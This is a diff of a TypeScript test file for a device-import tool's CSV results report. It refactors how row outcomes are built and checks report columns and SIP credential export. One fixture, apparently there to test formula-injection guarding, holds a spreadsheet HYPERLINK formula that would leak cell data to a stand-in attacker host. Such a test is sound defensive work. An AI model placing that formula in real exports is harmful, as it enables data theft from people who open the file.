@@ -4,9 +4,9 @@ import type { RowResult } from '../../../common/import/types';
 import { loadDraft } from '../../../common/import/load';
 import { rowLabel } from '../../../common/import/row-label';
 import { neutraliseCell, restoreCell } from '../../../common/import/formula-guard';
-import { rowResultOf } from '../../../main/import/batch-results';
+import { initialStepState, rowResultsOf, type StepState } from '../../../main/import/batch-results';
 import { buildReport } from '../../../main/import/report';
-import { phone, specOf, type RowPlan } from '../../integration/import/run/spec';
+import { deviceIdOf, documentOf, phone, specOf, stepOf, type RowPlan } from '../../integration/import/run/spec';
 
 const hostile = { ...phone(2), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' };
 const plans: RowPlan[] = [
@@ -18,29 +18,21 @@ const plans: RowPlan[] = [
 ];
 
 function resultsFor(spec: ReturnType<typeof specOf>): RowResult[] {
-  return spec.operations.map((operation, index) => {
-    const base = rowResultOf(operation, undefined);
-    const deviceId = operation.action === 'create' || operation.action === 'skip' ? operation.deviceId : null;
-    switch (index) {
-      case 2:
-        return {
-          ...base,
-          outcome: 'failed',
-          deviceId: null,
-          error: {
-            message: 'The server rejected the data: mac_address: MAC address already in use.',
-            column: 'mac_address',
-            fields: [{ column: 'mac_address', path: 'mac_address', message: 'MAC address already in use' }],
-          },
-        };
-      case 3:
-        return { ...base, outcome: 'skipped', deviceId, error: null };
-      case 4:
-        return { ...base, outcome: 'pending', deviceId: null, error: null };
-      default:
-        return { ...base, outcome: 'created', deviceId, error: null };
-    }
+  const states = spec.units.map((unit) => unit.steps.map(initialStepState));
+  const settle = (index: number, state: StepState) => (states[index]![0] = state);
+  settle(0, { outcome: 'created', id: deviceIdOf(spec, 0), error: null });
+  settle(1, { outcome: 'created', id: deviceIdOf(spec, 1), error: null });
+  settle(2, {
+    outcome: 'failed',
+    id: null,
+    error: {
+      message: 'The server rejected the data: mac_address: MAC address already in use.',
+      column: 'mac_address',
+      fields: [{ column: 'mac_address', path: 'mac_address', message: 'MAC address already in use' }],
+    },
   });
+  settle(3, { outcome: 'skipped', id: deviceIdOf(spec, 3), error: null });
+  return rowResultsOf(spec, states);
 }
 
 const parse = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true }).data;
@@ -59,10 +51,9 @@ describe('results report', () => {
     const [header, ...rows] = parse(csv);
     expect(header).toHaveLength(9);
     expect(rows.map((row) => row[1])).toEqual(['created', 'created', 'failed', 'skipped', 'not sent']);
-    const created = spec.operations[0]!;
-    expect(rows[0]![3]).toBe(created.action === 'create' ? created.deviceId : '');
+    expect(rows[0]![3]).toBe(deviceIdOf(spec, 0));
     // Each row names its phone as it is labelled, never by the device id alone.
-    expect(rows[2]![2]).toBe(rowLabel(spec.operations[2]!.name, results[2]!));
+    expect(rows[2]![2]).toBe(rowLabel(spec.sheetRows[2]!.name, results[2]!));
     expect(rows[2]![2]).toMatch(/^“.+” · MAC [0-9a-f:]{17} · SIP \S+$/);
     expect(rows[2]![0]).toBe('Column "MAC": The server rejected the data: mac_address: MAC address already in use.');
     expect(rows[4]![0]).toMatch(/^Not finished/);
@@ -99,8 +90,9 @@ describe('results report', () => {
     };
     const [header, first, , failed] = parse(buildReport(bare, results, { includePasswords: true }).csv);
     expect(header).toEqual(['failure_reason', 'result', 'result_phone', 'device_id', 'Name', 'MAC', 'sip_username', 'sip_password']);
-    const document = bare.operations[0]!.action === 'create' ? bare.operations[0]!.document : undefined;
-    expect(first!.slice(6)).toEqual([document?.sip?.username, document?.sip?.password]);
+    const step = stepOf(bare, 0);
+    const sip = step.action === 'create' ? (step.document as ReturnType<typeof documentOf>).sip : undefined;
+    expect(first!.slice(6)).toEqual([sip?.username, sip?.password]);
     expect(failed!.slice(6)).toEqual(['', '']);
     expect(parse(buildReport(bare, results, { includePasswords: false }).csv)[0]).toEqual([
       'failure_reason',
